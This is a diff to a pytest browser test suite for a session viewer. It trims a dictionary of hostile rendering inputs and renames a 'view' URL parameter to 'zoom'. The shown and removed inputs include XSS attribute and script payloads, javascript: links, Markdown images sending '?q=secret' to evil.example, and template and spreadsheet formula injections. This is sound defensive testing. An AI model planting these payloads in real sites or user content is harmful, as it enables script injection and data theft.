@@ -15,16 +15,10 @@ FIRST, SECOND = "a" * 32, "b" * 32
 pytestmark = pytest.mark.browser
 
 HOSTILE = {
-    "script": "<script>window.broken = 1</script><img src=x onerror='window.broken = 1'><svg onload='window.broken=1'>",
+    # The corpus of test_every_page.py stands in short fields; this is long, or breaks what reads JSON and Markdown.
     "attributes": "\"' onmouseover=window.broken=1 x=\"' autofocus onfocus=window.broken=1 ",
-    "closing": "</script></textarea></title></style></details></summary>--><!-- ]]>",
-    "addresses": "[a](javascript:window.broken=1) <javascript:x> [b]: data:text/html,x\n\n[b] [c](//evil.example)",
-    "images": "![x](https://evil.example/p?q=secret) ![y][z]\n\n[z]: https://evil.example/",
-    "templates": '{{ 7 * 7 }} {% raw %} ${7*7} #{7*7} <%= 7*7 %> =HYPERLINK("http://evil.example") @SUM(1+1)|cmd',
-    "direction": "\u202eevil\u202c \u2066x\u2069 a\u200bb\ufeff \x1b[31mred\x07 \x00",
     "long line": "x" * 1_000_000,
     "depth": "[" * 4_000 + "]" * 4_000 + "\n" + "> " * 500 + "deep\n" + "".join("  " * n + "- a\n" for n in range(120)),
-    "broken JSON": '{"a": [1, {"b": "\\ud800", "c": }',
     "lone surrogate": "a\ud800b",
 }
 
@@ -61,7 +55,7 @@ def _addresses(house: Any) -> list[str]:
     session = f"/s/{house.shelf.conversations[0].session.key}"
     turns = [f"{session}/t/{letter * 32}" for letter in "ab"]
     spans = [f"{turns[0]}?span={number * 16}" for number in "1234"]
-    return [session, f"{session}?view=cards", f"{session}?view=waterfall", *turns, *spans, f"{turns[1]}/diff"]
+    return [session, f"{session}?zoom=cards", f"{session}?zoom=waterfall", *turns, *spans, f"{turns[1]}/diff"]
 
 
 @pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
@@ -127,7 +121,7 @@ def test_zooms_keep_the_turn_and_a_turn_leads_back(visit, house):
     for key, view in (("u", "cards"), ("w", "waterfall"), ("t", "")):
         page.keyboard.press(key)
         page.wait_for_load_state()
-        page.wait_for_function(f"location.search.includes('view={view}') || '{view}' === ''")
+        page.wait_for_function(f"location.search.includes('zoom={view}') || '{view}' === ''")
         assert page.url.endswith(f"#t{SECOND}"), key
     page.keyboard.press("d")
     page.wait_for_url("**/diff")
@@ -181,7 +175,7 @@ def test_a_turn_is_copied_as_markdown_and_by_its_menu(visit, house):
 def test_without_scripts_everything_is_a_link_a_form_or_a_fold(visit, house, site):
     page = visit(_key(house), java_script_enabled=False)
     page.click("text=Cards")
-    assert "view=cards" in page.url
+    assert "zoom=cards" in page.url
     page.click(".tile >> nth=0")
     assert f"/t/{FIRST}" in page.url
     page.click("a[rel=next]")
